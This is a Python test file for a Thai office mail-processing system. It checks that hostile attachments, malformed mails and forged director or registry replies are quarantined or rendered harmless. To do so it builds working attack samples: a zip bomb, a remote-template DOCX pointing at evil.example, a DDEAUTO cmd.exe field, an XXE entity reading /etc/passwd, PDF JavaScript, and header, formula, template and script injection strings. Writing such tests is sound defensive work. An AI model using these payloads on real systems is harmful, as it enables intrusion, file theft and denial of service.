"""Hostile files, names and words, and answers of the director and the registry that are not theirs: nothing comes of them."""

from __future__ import annotations

import zlib
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest
from desk import DOCX, Q2, Desk
from stranger import (
    EVIL,
    EVIL_PASS,
    FAKE_PASS,
    MEMBER,
    PDF,
    deliver,
    form_file,
    good_mail_still_counts,
    outside,
    remade,
    route,
    swap,
)  # fmt: skip

from songthan.adapters.parse_mail import SandboxedMailParser
from songthan.adapters.read_sandboxed import SandboxedReader
from songthan.adapters.sandbox import Sandbox
from songthan.domain.assignments import DeadlineState
from songthan.steps.report_status import inbox_rows, shown
from songthan.steps.submit import receipt_number
from songthan.testing.office import AUTHSERV, paper


@pytest.fixture
def desk(tmp_path: Path) -> Desk:
    """Everybody has been asked on the morning of 1 March 2566."""
    made = Desk(tmp_path)
    made.tick()
    assert made.member("s06").email == MEMBER
    return made


# hostile files


def bomb(form: bytes) -> bytes:
    return remade(form, word__media_DOT_xml=b"<a/>" + b" " * (60 << 20))


def remote(form: bytes) -> bytes:
    rel = (b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
           b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>')  # fmt: skip
    return remade(form, word___rels__document_DOT_xml_DOT_rels=swap(b"</Relationships>", rel))


def dde(form: bytes) -> bytes:
    field = (b'<w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe "/c calc"'
             b'</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')  # fmt: skip
    return remade(form, word__document_DOT_xml=swap(b"<w:body>", field))


def doctype(form: bytes) -> bytes:
    return remade(form, word__document_DOT_xml=lambda d: d.replace(
        b"<w:document", b'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document', 1))  # fmt: skip


def pdf_bomb(_: bytes) -> bytes:
    data = zlib.compress(zlib.compress(b" " * (200 << 20), 9), 9)
    stream = b"<< /Length %d /Filter [/FlateDecode /FlateDecode] >>\nstream\n%s\nendstream" % (len(data), data)
    return paper(["x"]).replace(b"%%EOF", b"\n99 0 obj\n" + stream + b"\nendobj\n%%EOF")


HOSTILE: dict[str, Callable[[bytes], bytes]] = {
    "zip bomb": bomb,
    "remote template": remote,
    "macro under another name": lambda form: remade(form, word__vbaProject_DOT_bin=b"\xd0\xcf\x11\xe0" * 99),
    "embedded object": lambda form: remade(form, word__embeddings__oleObject1_DOT_bin=b"\xd0\xcf\x11\xe0" * 99),
    "DDE field": dde,
    "DOCTYPE": doctype,
    "PDF with JavaScript": lambda _: paper(["x"]) + b"\n9 0 obj << /S /J#61vaScript /JS (app.alert) >> endobj",
}


@pytest.mark.real
def test_hostile_files_are_shut_away_and_the_next_mail_is_read(desk: Desk, tmp_path: Path) -> None:
    with Sandbox(size=1) as sandbox:
        own = (desk.office.plan.roster.mailbox,)
        desk.office = replace(
            desk.office, reader=SandboxedReader(sandbox),
            parser=SandboxedMailParser(sandbox=sandbox, authserv_id=AUTHSERV, own_addresses=own),
        )  # fmt: skip
        good = form_file(desk)[0][2]
        for n, (name, make) in enumerate(HOSTILE.items()):
            kind = PDF if "PDF" in name else DOCX
            files = (("แบบรายงาน.docx", kind, make(good)), ("แบบจริง.docx", DOCX, good))
            deliver(desk, FAKE_PASS, f"From: {MEMBER}", files=files, message_id=f"<h{n}@bfa.example>")
            desk.tick()
            assert route(desk)[0] == "quarantine", name
            assert desk.states()["s06"] == "ASKED" and outside(desk) == set(), name
        deliver(
            desk, FAKE_PASS, f"From: {MEMBER}", files=(("บ.pdf", PDF, pdf_bomb(b"")),), message_id="<p@bfa.example>"
        )
        desk.tick()
        assert route(desk)[0] in ("hold", "quarantine")
        good_mail_still_counts(desk)


def deep(levels: int) -> str:
    head = "".join(f'Content-Type: multipart/mixed; boundary="b{n}"\r\n\r\n--b{n}\r\n' for n in range(levels))
    return f"{head}\r\nx\r\n" + "".join(f"--b{n}--\r\n" for n in reversed(range(levels)))


@pytest.mark.real
@pytest.mark.parametrize("shape", ["deep", "recipients", "attachments", "body"])
def test_monstrous_mails_are_held_and_the_next_mail_is_read(desk: Desk, shape: str) -> None:
    top = f"{FAKE_PASS}\r\nFrom: {MEMBER}\r\nMIME-Version: 1.0\r\n"
    rest = {
        "deep": lambda: deep(1000),
        "recipients": lambda: f"To: {', '.join(f'p{n}@x.example' for n in range(20_000))}\r\n\r\nสวัสดี",
        "attachments": lambda: 'Content-Type: multipart/mixed; boundary="b"\r\n\r\n'
        + "".join(f"--b\r\nContent-Type: application/pdf; name={n}.pdf\r\n\r\n%PDF-{n}\r\n" for n in range(500)) + "--b--\r\n",
        "body": lambda: "\r\n" + "x" * (100 << 20),
    }[shape]()  # fmt: skip
    with Sandbox(size=1) as sandbox:
        desk.office = replace(
            desk.office, parser=SandboxedMailParser(sandbox=sandbox, authserv_id=AUTHSERV, own_addresses=())
        )
        desk.mailbox.receive((top + rest).encode(), received=desk.clock.now())
        desk.tick()
        assert route(desk)[0] in ("hold", "quarantine") and desk.states()["s06"] == "ASKED"
        good_mail_still_counts(desk)


def test_after_one_refused_file_no_other_is_opened(desk: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    """Two hundred small bombs would each cost the sandbox half a minute, while nobody else's mail is read."""
    looked: list[str] = []
    real = desk.office.reader.identify
    monkeypatch.setattr(desk.office.reader, "identify", lambda data, name: looked.append(name) or real(data, name))
    good = form_file(desk)[0][2]
    bad = doctype(good)
    files = tuple((f"{n}.docx", DOCX, bad + bytes([n])) for n in range(5))
    for top, most in ((EVIL_PASS, 1), (FAKE_PASS.replace("pass", "fail"), 0)):
        looked.clear()
        deliver(desk, top, f"From: {EVIL}", files=files, message_id=f"<{most}@x>")
        desk.tick()
        assert len(looked) == most and route(desk)[0] == "quarantine"


# names and words are data


NASTY = ["../../../etc/passwd", "a\x00b.docx", "gpj.\u202excod.docx", "x\r\nBcc: all@bfa.example", "{{ 7*7 }}", "=cmd|'/c calc'!A0",
         "<script>alert(1)</script>", "🙂🙂", "\u200f\u200eก"]  # fmt: skip


def test_names_and_subjects_are_words_and_nothing_else(desk: Desk, tmp_path: Path) -> None:
    before = {p for p in tmp_path.rglob("*") if "blobs" not in p.parts}
    for n, text in enumerate(NASTY):
        quoted = "".join(f"%{b:02X}" for b in text.encode())
        words = "".join(f"={b:02X}" for b in text.encode())
        raw = (
            f"{EVIL_PASS}\r\nFrom: =?utf-8?q?{words}?= <mallory{n}@evil.example>\r\nSubject: =?utf-8?q?{words}?=\r\n"
            f'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\n'
            f"hi\r\n--b\r\nContent-Type: image/png\r\nContent-Disposition: attachment; filename*=utf-8''{quoted}\r\n\r\n"
            f"\x89PNG\r\n--b--\r\n"
        )
        desk.mailbox.receive(raw.encode("latin-1"), received=desk.clock.now())
    desk.tick()
    letters = desk.mails(desk.secretary, "hold_notice")
    assert len(letters) == len(NASTY) and outside(desk) == set()
    for letter in letters:
        for text in (letter.mail.subject, letter.mail.text.replace("\n", "")):
            assert text.isprintable() or not [c for c in text if ord(c) < 32 or c in "\u202e\u200f\u200e"]
        assert "<script>" not in letter.mail.html and "49" not in letter.mail.subject
        assert not [line for line in letter.mail.text.split("\n") if line.startswith("Bcc")]
    assert {p for p in tmp_path.rglob("*") if "blobs" not in p.parts} == before
    assert "{{ 7*7 }}" in "".join(letter.mail.text for letter in letters)
    for row in inbox_rows(desk.office):
        assert not [c for value in row.values() for c in str(value) if c in "<>[]`|\r\n\u202e"]


@pytest.mark.parametrize(
    "text",
    ["<img src=x onerror=alert(1)>", "![x](http://evil.example/p.png)", "[กดที่นี่](http://evil.example)", "`a` | b | *c* _d_",
     "https://evil.example www.evil.example", "# หัวเรื่อง", "- ข้อ", "12. ข้อ", "~~x~~", "\\<b>", "a\nb"],
)  # fmt: skip
def test_a_cell_of_the_dashboard_holds_no_markup(text: str) -> None:
    """Prefect's page renders every text cell as Markdown with HTML and links."""
    cell = shown(text)
    assert cell and not [c for c in cell if c in "<>[]()`|*_#!~\\\n"]
    assert "://" not in cell and "www." not in cell and not cell.startswith(("-", "12."))
    assert (
        shown("") == "-"
        and len(shown("ก" * 5000)) <= 201
        and shown("เรียน เลขานุการ ร้อยละ ๑๐๐") == "เรียน เลขานุการ ร้อยละ ๑๐๐"
    )


@pytest.mark.parametrize(
    "text", ["ก" * 20_000, "🙂🙂", "\u200f\u202eกข", "<script>x</script>", "=cmd|'/c calc'!A0", "{{ 7*7 }}{% raw %}"]
)
def test_what_a_member_typed_stays_what_he_typed(desk: Desk, text: str) -> None:
    desk.reply(desk.member("s06"), files=form_file(desk, done=text))
    desk.tick()
    assert desk.states()["s06"] in ("ACCEPTED", "NEEDS_CORRECTION") or route(desk)[0] == "hold"
    form = desk.ledger.returns.get(1) and desk.ledger.returns.form(1)
    for key, answer in (form.answers if form else {}).items():
        if key.endswith(".done") and answer.raw:
            assert "49" not in answer.raw and answer.raw.strip("\u200f\u202e") in text
    for letter in desk.mailbox.deliveries[3:]:
        assert (
            "<script>" not in letter.mail.html and "\u202e" not in letter.mail.text and len(letter.mail.text) < 10_000
        )
    good_mail_still_counts(desk, "s08")


# the director and the registry


@pytest.fixture
def collected(desk: Desk) -> Desk:
    """All answers are in, the report lies with the director."""
    for seat in desk.states():
        desk.answer(seat)
    desk.tick("2023-03-10 09:00")
    return desk


def test_only_the_directors_signature_over_this_bundle_counts(collected: Desk) -> None:
    roster = collected.office.plan.roster
    director, member = roster.member(roster.director), collected.member("s06")
    asked = collected.mails(director, "director")[-1]
    frozen = asked.files[0][2]
    signed = collected.office.signatures.sign(frozen)
    sent = len(collected.mailbox.deliveries)
    cases = [
        {"sender": director, "address": EVIL, "data": signed},
        {"sender": member, "data": signed},
        {"sender": collected.secretary, "data": signed},
        {"sender": director, "data": frozen},
        {"sender": director, "data": collected.office.signatures.sign(paper(["another report"]))},
        {"sender": director, "data": signed, "to": None},
        {"sender": director, "data": signed, "verdict": "none"},
        {"sender": director, "data": signed, "verdict": "fail"},
        {"sender": director, "data": signed, "headers": {"Auto-Submitted": "auto-replied"}},
    ]
    for case in cases:
        data = case.pop("data")
        collected.reply(case.pop("sender"), **{"to": asked, "files": (("ลงนาม.pdf", PDF, data),), **case})
        collected.tick()
        assert route(collected)[0] in ("hold", "quarantine"), case
        assert collected.ledger.deadline_state(Q2) is DeadlineState.WITH_DIRECTOR, case
    assert outside(collected, sent) == set()
    collected.reply(director, to=asked, files=(("ลงนาม.pdf", PDF, signed),))
    collected.tick()
    assert collected.ledger.deadline_state(Q2) is DeadlineState.SUBMITTED


def test_only_the_registrys_own_words_give_the_number(collected: Desk) -> None:
    roster = collected.office.plan.roster
    asked = collected.mails(roster.member(roster.director), "director")[-1]
    signed = collected.office.signatures.sign(asked.files[0][2])
    collected.reply(roster.member(roster.director), to=asked, files=(("ลงนาม.pdf", PDF, signed),))
    collected.tick()
    ours = next(d for d in collected.mailbox.deliveries if d.mail.kind == "registry")
    number = "ได้รับเรื่องแล้ว เลขรับที่ สว ๔๑๒๓/๒๕๖๖"
    registry = {"address": roster.registry.email, "name": roster.registry.name}
    cases = [
        {**registry, "body": number, "verdict": "fail"},
        {**registry, "body": number, "verdict": "none"},
        {"address": EVIL, "name": roster.registry.name, "body": number},
        {"body": number},
        {**registry, "body": "รับทราบ\n\n> เลขรับที่ สว ๑/๒๕๖๖"},
        {**registry, "body": "รับทราบ\n\nจาก: ส่งทัน\nส่ง: วันนี้\nถึง: สารบรรณ\n\nเลขรับที่ สว ๑/๒๕๖๖"},
        {**registry, "body": "เลขรับ ๑/๒๕๖๖ และเลขรับ ๒/๒๕๖๖"},
        {**registry, "body": number, "headers": {"Auto-Submitted": "auto-replied"}},
        {**registry, "body": "ดูหัวเรื่อง", "subject": number},
    ]
    for case in cases:
        collected.reply(collected.secretary, to=ours, **case)
        collected.tick()
        assert route(collected)[0] in ("hold", "quarantine"), case
        assert collected.ledger.deadline_state(Q2) is DeadlineState.SUBMITTED, case
    collected.reply(collected.secretary, to=ours, **registry, body=f"{number}\n\n> เลขรับที่ สว ๑/๒๕๖๖")
    collected.tick()
    assert collected.ledger.deadline_state(Q2) is DeadlineState.ACKNOWLEDGED
    assert collected.ledger.bundles.latest(Q2)["receipt"] == "สว ๔๑๒๓/๒๕๖๖"


def test_one_number_in_two_scripts_is_one_and_a_longer_year_is_none() -> None:
    assert receipt_number("เลขรับ ๑๒/๒๕๖๖ (เลขรับ 12/2566)") == "๑๒/๒๕๖๖"
    assert receipt_number("เลขรับ 12/25667") is None
